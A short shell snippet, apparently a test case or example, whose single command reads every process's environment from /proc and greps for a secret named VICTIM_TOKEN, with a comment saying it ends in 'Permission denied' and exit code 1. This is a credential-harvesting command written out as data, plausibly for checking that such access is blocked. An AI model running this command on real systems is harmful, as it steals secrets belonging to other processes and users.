# The environments of all processes are searched
# reports: Permission denied|exit code 1
cat /proc/[0-9]*/environ | tr "\0" "\n" | grep -a VICTIM_TOKEN
